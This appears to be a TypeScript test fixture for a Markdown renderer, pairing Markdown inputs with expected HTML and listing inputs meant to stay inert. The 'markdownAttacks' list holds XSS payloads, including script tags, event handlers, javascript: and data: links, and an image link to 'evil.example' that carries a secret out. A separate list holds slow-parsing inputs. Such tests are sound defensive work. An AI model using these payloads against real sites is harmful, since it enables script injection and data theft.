/*
 * What Markdown becomes in the dashboard and in the widget. Tests of both render these texts, with sources 1 and 2
 * shown as `<b>1</b>` and `<b>2</b>`, and compare the HTML without classes.
 */

const link = (url: string, label: string) =>
  `<a href="${url}" target="_blank" rel="noopener noreferrer nofollow">${label}</a>`

/** Markdown and its HTML. */
export const markdownCases: readonly (readonly [markdown: string, html: string])[] = [
  [
    '**Returns** are _free_ for `30 days`, ~~not~~ *14*.',
    '<p><strong>Returns</strong> are <em>free</em> for <code>30 days</code>, <del>not</del> <em>14</em>.</p>',
  ],
  [
    '__both__ ***nested*** `` a`b ``',
    '<p><strong>both</strong> <strong><em>nested</em></strong> <code>a`b</code></p>',
  ],
  ['one\ntwo\n\nthree', '<p>one<br/>two</p><p>three</p>'],
  ['## Postage #', '<p>Postage</p>'],
  ['> quoted\n> twice', '<blockquote><p>quoted<br/>twice</p></blockquote>'],
  ['```js\na < b\n```\nafter', '<pre tabindex="0"><code>a &lt; b</code></pre><p>after</p>'],
  ['a\n\n---\n\nb', '<p>a</p><hr/><p>b</p>'],
  ['- a\n  - b\n- c', '<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>'],
  ['3. x\n\n4. y', '<ol start="3"><li>x</li><li>y</li></ol>'],
  [
    '| a | b |\n|---|--:|\n| 1 | **2** |',
    '<div tabindex="0"><table><thead><tr><th>a</th><th>b</th></tr></thead>' +
      '<tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table></div>',
  ],
  [
    '| | |\n| - | - |\n| 1 | 2 |',
    '<div tabindex="0"><table><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>',
  ],
  [
    'Free [1], both [1, 2], none [3].',
    '<p>Free<span>\u00a0<b>1</b></span>, both<span>\u00a0<b>1</b><b>2</b></span>, none [3].</p>',
  ],
  ['- cited [2]', '<ul><li>cited<span>\u00a0<b>2</b></span></li></ul>'],
  ['x ([1]) [1][2]', '<p>x (<span><b>1</b></span>)<span>\u00a0<b>1</b></span><span><b>2</b></span></p>'],
  ['snake_case_name 2 * 3 * 4 \\*x\\* **', '<p>snake_case_name 2 * 3 * 4 *x* **</p>'],
  [
    '[page](https://example.com/a?b=1&c=2 "t")',
    `<p>${link('https://example.com/a?b=1&amp;c=2', 'page')}</p>`,
  ],
  ['See https://example.com/x).', `<p>See ${link('https://example.com/x', 'https://example.com/x')}).</p>`],
  [
    '[mail](mailto:a@example.com) [call](tel:+421900)',
    `<p>${link('mailto:a@example.com', 'mail')} ${link('tel:+421900', 'call')}</p>`,
  ],
  ['[**bold** label](/relative)', '<p><strong>bold</strong> label</p>'],
  ['![a picture](https://example.com/p.png)', '<p>a picture</p>'],
]

/** A text that isn't Markdown, and its HTML: only its addresses become links. */
export const typedCase = [
  '2*3*4 **x** [1] see https://example.com.',
  `2*3*4 **x** [1] see ${link('https://example.com/', 'https://example.com')}.`,
] as const

/** Texts that must not become scripts, frames, pictures or links with other schemes. */
export const markdownAttacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '![x](https://evil.example/?d=secret)',
  '[![x](https://evil.example/p.png)](javascript:1)',
  '</script><svg onload=alert(1)>',
  '> - | `<iframe>` |',
  'javascript:alert(1)',
  '\u202Egnp.exe https://example.com/\u202Etxt',
  '[x](https://example.com" onmouseover="alert(1))',
]

/** Messages that a backtracking parser would take long for, and ones with many parts. */
export const slowMarkdown: readonly string[] = [
  '**'.repeat(4_000),
  '**a'.repeat(2_600),
  '*a'.repeat(4_000),
  '['.repeat(8_000),
  '[a]('.repeat(2_000),
  '![['.repeat(2_600),
  '`'.repeat(8_000),
  '`a``'.repeat(2_000),
  '>'.repeat(8_000),
  Array.from({ length: 400 }, (_, depth) => `${' '.repeat(Math.min(depth * 2, 60))}- x`).join('\n'),
  '|'.repeat(4_000) + '\n' + '|-'.repeat(2_000),
  'https://'.repeat(1_000),
  'a' + '\u0301'.repeat(7_999),
  '_a'.repeat(4_000),
  '\n'.repeat(8_000),
  '1. '.repeat(2_600),
  '~~a'.repeat(2_600),
  Array.from({ length: 500 }, (_, number) => `https://a.sk/${number}`)
    .join(' ')
    .slice(0, 8_000),
  '\u202e[a](b) '.repeat(1_000),
  'x'.repeat(8_000),
  `# a${' '.repeat(7_990)}b`,
]
